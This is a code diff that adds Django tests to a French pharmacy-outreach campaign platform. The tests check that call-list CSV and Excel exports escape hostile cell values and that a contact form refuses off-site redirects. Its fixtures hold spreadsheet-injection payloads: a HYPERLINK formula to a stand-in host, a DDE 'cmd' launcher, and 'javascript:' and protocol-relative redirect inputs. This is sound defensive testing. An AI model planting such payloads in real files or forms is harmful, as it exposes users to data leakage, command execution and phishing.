@@ -302,3 +302,55 @@ def test_committee_report_progress_reads_the_past_from_the_history(zero_fax, per
         1,
     )
     assert "Zéro fax" in rows and len(rows) == 1  # the Mayenne campaign does not meet the Sarthe
+
+
+HOSTILE_NAME = '=HYPERLINK("https://faux-site.example/?"&A1,"Cliquez ici")'
+
+
+@pytest.mark.django_db
+def test_call_list_exports_show_hostile_texts_without_running_them(zero_fax, personas, client):
+    """A name or address read from an imported file opens as text in the adviser's spreadsheet,
+    and a control character in it does not break the download."""
+    first, second = zero_fax["sarthe"][0], zero_fax["sarthe"][1]
+    Structure.objects.filter(pk=first.pk).update(
+        name=HOSTILE_NAME, address="@SUM(1+1)*cmd|' /C calc'!A0"
+    )
+    Structure.objects.filter(pk=second.pk).update(name="PHARMACIE\x0bDU\x1fCENTRE", phone="-2+3")
+    client.force_login(personas["cpam72_contributor"])
+    url = f"/campagnes/{zero_fax['campaign'].slug}/appels/?stage=sans-mss&format="
+
+    exported = client.get(url + "csv").content.decode("utf-8-sig")
+    rows = {r[0]: r for r in csv.reader(io.StringIO(exported), delimiter=";")}
+    assert rows[first.finess_et][1] == "'" + HOSTILE_NAME
+    assert rows[first.finess_et][4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows[second.finess_et][1] == "PHARMACIE\nDUCENTRE"
+    assert rows[second.finess_et][6] == "'-2+3"
+
+    from openpyxl import load_workbook
+
+    response = client.get(url + "xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content))["Données"]
+    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    name = cells[first.finess_et][1]
+    # Shown exactly as written, stored as text behind Excel's own apostrophe, never a formula.
+    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE_NAME, "s", True)
+    assert cells[second.finess_et][1].value == "PHARMACIE\nDUCENTRE"
+
+
+@pytest.mark.django_db
+def test_logging_a_contact_only_returns_to_a_page_of_the_platform(zero_fax, personas, client):
+    campaign, officine = zero_fax["campaign"], zero_fax["sarthe"][0]
+    client.force_login(personas["cpam72_contributor"])
+    url = f"/campagnes/{campaign.slug}/structures/{officine.finess_et}/contact/"
+    followup = f"/campagnes/{campaign.slug}/structures/{officine.finess_et}/"
+    calls = f"/campagnes/{campaign.slug}/appels/?stage=sans-mss&page=2"
+    form = {"kind": "call", "outcome": "call_back", "note": "", "next_step": "", "next_date": ""}
+    for target, expected in [
+        ("https://faux-site.example/connexion/", followup),
+        ("//faux-site.example/", followup),
+        ("javascript:alert(1)", followup),
+        (calls, calls),
+    ]:
+        response = client.post(url, {**form, "next": target})
+        assert (response.status_code, response["Location"]) == (302, expected), target
